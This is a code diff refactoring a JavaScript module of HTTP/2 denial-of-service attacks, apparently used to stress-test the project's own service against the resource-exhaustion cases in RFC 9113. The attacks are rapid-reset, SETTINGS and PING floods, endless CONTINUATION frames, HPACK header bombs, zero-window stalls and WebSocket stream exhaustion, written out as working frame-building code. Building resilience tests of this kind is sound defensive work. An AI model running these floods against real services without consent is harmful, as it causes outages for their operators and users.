@@ -1,81 +1,53 @@
-/** Frames and streams of HTTP/2 that cost the service more than whoever sends them: RFC 9113 section 10.5. */
+/** Frames and streams of HTTP/2 that cost the service more than the client: RFC 9113 section 10.5. */
 
 import { setTimeout as sleep } from 'node:timers/promises';
+import { flood } from '../attacker.js';
 import {
   begin,
+  beginStreams,
   endHeaders,
   endStream,
   frame,
+  maxWindow,
+  onEachStream,
   openWindow,
   requestBlock,
+  streamAt,
+  streamsEach,
   types,
   uint32,
 } from '../http2-frames.js';
 
 const flags = ['--h2c'];
 const whole = endHeaders | endStream;
-const maxWindow = 2 ** 31 - 1;
-const streamsEach = 100;
 
-/** No proxy lets them through as they are, and frames come before accounts. */
+/** No proxy forwards these frames as they are, and frames come before accounts. */
 const isFor = (/** @type {import('../attacker.js').Mode} */ { isProxied, hasAccounts }) =>
   !isProxied && !hasAccounts;
 
 /** @typedef {import('node:net').Socket} Socket */
 
-/** @param {number} place */
-const streamAt = (place) => 2 * place + 1;
-
 /**
- * Sends pieces one after the other on so many connections, as fast as they are taken, and begins anew where it is
- * cut off.
+ * An attack that floods 20 connections with pieces, as fast as they are accepted, and replaces those that are cut.
  *
- * @param {import('../attacker.js').Attacker} attacker
- * @param {number} count
+ * @param {string} name
  * @param {(place: number) => Buffer} pieceAt
+ * @returns {import('../attacker.js').Attack}
  */
-async function flood(attacker, count, pieceAt) {
-  async function floodOne() {
-    /** @param {Socket} socket */
-    function use(socket) {
-      let place = 0;
-      const more = () => {
-        while (!socket.destroyed && !attacker.isOver() && socket.write(pieceAt(place++)));
-      };
-      socket.resume();
-      socket.write(begin());
-      socket.on('drain', more);
-      more();
-    }
-    const [socket] = await attacker.openMany(1, use);
-    if (socket?.destroyed) return;
-    await Promise.race([
-      new Promise((resolve) => socket?.once('close', resolve)),
-      attacker.untilOver(),
-    ]);
-  }
-  await attacker.repeat(count, floodOne);
-}
-
-/**
- * Begins streams on so many connections, and leaves what comes of them untaken.
- *
- * @param {import('../attacker.js').Attacker} attacker
- * @param {number} count
- * @param {number} window Of each stream
- * @param {Buffer} head
- */
-async function beginStreams(attacker, count, window, head) {
-  const heads = Buffer.concat(
-    Array.from({ length: streamsEach }, (_, place) =>
-      frame(types.headers, whole, streamAt(place), head),
-    ),
-  );
-  return attacker.openMany(count, (socket) => {
-    socket.pause();
-    socket.write(Buffer.concat([begin(window), openWindow(0, maxWindow - 65_535), heads]));
-  });
-}
+const floodOf = (name, pieceAt) => ({
+  name: `HTTP/2: ${name}, on 20 connections`,
+  isFor,
+  flags,
+  run: (attacker) =>
+    attacker.repeat(20, async () => {
+      const [socket] = await attacker.openMany(1, (opened) => {
+        opened.resume();
+        opened.write(begin());
+        flood(opened, (place) => (attacker.isOver() ? undefined : pieceAt(place)));
+      });
+      if (!socket?.destroyed) await new Promise((resolve) => socket?.once('close', resolve));
+    }),
+});
 
 /** @param {(place: number) => Buffer} make @param {number} [count] */
 const batch =
@@ -88,13 +60,30 @@ const postHead = requestBlock('POST', '/api/methods/post', { 'content-type': 'te
 const large = requestBlock('GET', '/openapi.json');
 
 /**
- * Has the answer made, which is done once.
+ * An attack that requests 5,000 large responses on 50 connections.
  *
- * @param {import('../attacker.js').Attacker} attacker
+ * @param {string} name
+ * @param {number} window Of each stream
+ * @param {(attacker: import('../attacker.js').Attacker, socket: Socket) => void} [use] By default, nothing is read
+ * @returns {import('../attacker.js').Attack}
  */
-const makeLarge = (attacker) => attacker.ask('GET', '/openapi.json');
+const largeResponses = (name, window, use = () => {}) => ({
+  name: `HTTP/2: 5,000 large answers ${name}`,
+  isFor,
+  flags,
+  // Renders the response, which happens once.
+  prepare: (attacker) => attacker.ask('GET', '/openapi.json'),
+  async run(attacker) {
+    await attacker.openMany(50, (socket) => {
+      socket.pause();
+      socket.write(beginStreams(large, window));
+      use(attacker, socket);
+    });
+    await attacker.untilOver();
+  },
+});
 
-/** Kept in the table by the first, said again by a byte in the others: 4,000 bytes, sixty times. */
+/** The first request stores it in the table; each byte of the others repeats it: 4,000 bytes, sixty times. */
 const keptField = Buffer.concat([
   Buffer.from([0x40, 1, 0x78, 0x7f, 0xa1, 0x1e]),
   Buffer.alloc(4000, 'a'),
@@ -103,107 +92,40 @@ const bomb = Buffer.concat([requestBlock('GET', '/health'), Buffer.alloc(60, 0xb
 
 /** @type {readonly import('../attacker.js').Attack[]} */
 export const http2Attacks = [
-  {
-    name: 'HTTP/2: requests that are reset at once, on 20 connections',
-    isFor,
-    flags,
-    run: (attacker) =>
-      flood(
-        attacker,
-        20,
-        batch((place) =>
-          Buffer.concat([
-            frame(types.headers, whole, streamAt(place), getHead),
-            frame(types.rstStream, 0, streamAt(place), uint32(8)),
-          ]),
-        ),
-      ),
-  },
-  {
-    name: 'HTTP/2: floods of SETTINGS, on 20 connections',
-    isFor,
-    flags,
-    run: (attacker) =>
-      flood(
-        attacker,
-        20,
-        batch(() => frame(types.settings, 0, 0)),
-      ),
-  },
-  {
-    name: 'HTTP/2: floods of PING, on 20 connections',
-    isFor,
-    flags,
-    run: (attacker) =>
-      flood(
-        attacker,
-        20,
-        batch(() => frame(types.ping, 0, 0, Buffer.alloc(8))),
-      ),
-  },
-  {
-    name: 'HTTP/2: headers that go on without end, on 20 connections',
-    isFor,
-    flags,
-    run: (attacker) =>
-      flood(attacker, 20, (turn) =>
-        turn === 0
-          ? frame(types.headers, 0, 1, getHead)
-          : frame(types.continuation, 0, 1, requestBlock('GET', '/', { x: 'a'.repeat(100) })),
-      ),
-  },
-  {
-    name: 'HTTP/2: headers that unpack to 240 KB, on 20 connections',
-    isFor,
-    flags,
-    run: (attacker) =>
-      flood(attacker, 20, (turn) =>
-        turn === 0
-          ? frame(types.headers, whole, 1, Buffer.concat([getHead, keptField]))
-          : batch((place) => frame(types.headers, whole, streamAt(place + 1), bomb))(turn - 1),
-      ),
-  },
-  {
-    name: 'HTTP/2: 5,000 large answers in windows of nothing',
-    isFor,
-    flags,
-    prepare: makeLarge,
-    async run(attacker) {
-      await beginStreams(attacker, 50, 0, large);
-      await attacker.untilOver();
-    },
-  },
-  {
-    name: 'HTTP/2: 5,000 large answers in windows that open by a byte',
-    isFor,
-    flags,
-    prepare: makeLarge,
-    async run(attacker) {
-      const sockets = await beginStreams(attacker, 50, 0, large);
-      const crumbs = Buffer.concat(
-        Array.from({ length: streamsEach }, (_, place) => openWindow(streamAt(place), 1)),
-      );
-      for (const socket of sockets) {
-        const more = () => {
-          while (!socket.destroyed && !attacker.isOver() && socket.write(crumbs));
-        };
-        socket.resume();
-        socket.on('drain', more);
-        more();
-      }
-      await attacker.untilOver();
-    },
-  },
-  {
-    name: 'HTTP/2: 5,000 large answers on 50 connections that are not read',
-    isFor,
-    flags,
-    prepare: makeLarge,
-    async run(attacker) {
-      await beginStreams(attacker, 50, maxWindow, large);
-      await attacker.untilOver();
-    },
-  },
+  floodOf(
+    'requests that are reset at once',
+    batch((place) =>
+      Buffer.concat([
+        frame(types.headers, whole, streamAt(place), getHead),
+        frame(types.rstStream, 0, streamAt(place), uint32(8)),
+      ]),
+    ),
+  ),
+  floodOf(
+    'floods of SETTINGS',
+    batch(() => frame(types.settings, 0, 0)),
+  ),
+  floodOf(
+    'floods of PING',
+    batch(() => frame(types.ping, 0, 0, Buffer.alloc(8))),
+  ),
+  floodOf('headers that go on without end', (turn) =>
+    turn === 0
+      ? frame(types.headers, 0, 1, getHead)
+      : frame(types.continuation, 0, 1, requestBlock('GET', '/', { x: 'a'.repeat(100) })),
+  ),
+  floodOf('headers that unpack to 240 KB', (turn) =>
+    turn === 0
+      ? frame(types.headers, whole, 1, Buffer.concat([getHead, keptField]))
+      : batch((place) => frame(types.headers, whole, streamAt(place + 1), bomb))(turn - 1),
+  ),
+  largeResponses('in windows of nothing', 0),
+  largeResponses('in windows that open by a byte', 0, (attacker, socket) => {
+    const crumbs = onEachStream((stream) => openWindow(stream, 1));
+    socket.resume();
+    flood(socket, () => (attacker.isOver() ? undefined : crumbs));
+  }),
+  largeResponses('on 50 connections that are not read', maxWindow),
   {
     name: 'HTTP/2: 5,000 WebSockets on 50 connections that take nothing',
     isFor,
@@ -214,12 +136,10 @@ export const http2Attacks = [
         ':protocol': 'websocket',
         'sec-websocket-version': '13',
       });
-      const heads = Array.from({ length: streamsEach }, (_, place) =>
-        frame(types.headers, endHeaders, streamAt(place), head),
-      );
+      const heads = onEachStream((stream) => frame(types.headers, endHeaders, stream, head));
       await attacker.openMany(50, (socket) => {
         socket.resume();
-        socket.write(Buffer.concat([begin(0), ...heads]));
+        socket.write(Buffer.concat([begin(0), heads]));
       });
       await attacker.untilOver();
     },
@@ -235,10 +155,7 @@ export const http2Attacks = [
       const sockets = await attacker.openMany(50, (socket, index) => {
         for (let place = 0; place < streamsEach; place++) open.add(`${index} ${streamAt(place)}`);
         watchStreams(socket, (stream) => open.delete(`${index} ${stream}`));
-        const heads = Array.from({ length: streamsEach }, (_, place) =>
-          frame(types.headers, endHeaders, streamAt(place), postHead),
-        );
-        socket.write(Buffer.concat([begin(), ...heads]));
+        socket.write(beginStreams(postHead, undefined, endHeaders));
       });
       while (!attacker.isOver()) {
         for (const [index, socket] of sockets.entries()) {
@@ -258,7 +175,7 @@ export const http2Attacks = [
 ];
 
 /**
- * Tells each stream that the service ends.
+ * Reports each stream that the service ends.
  *
  * @param {Socket} socket
  * @param {(stream: number) => void} onEnd
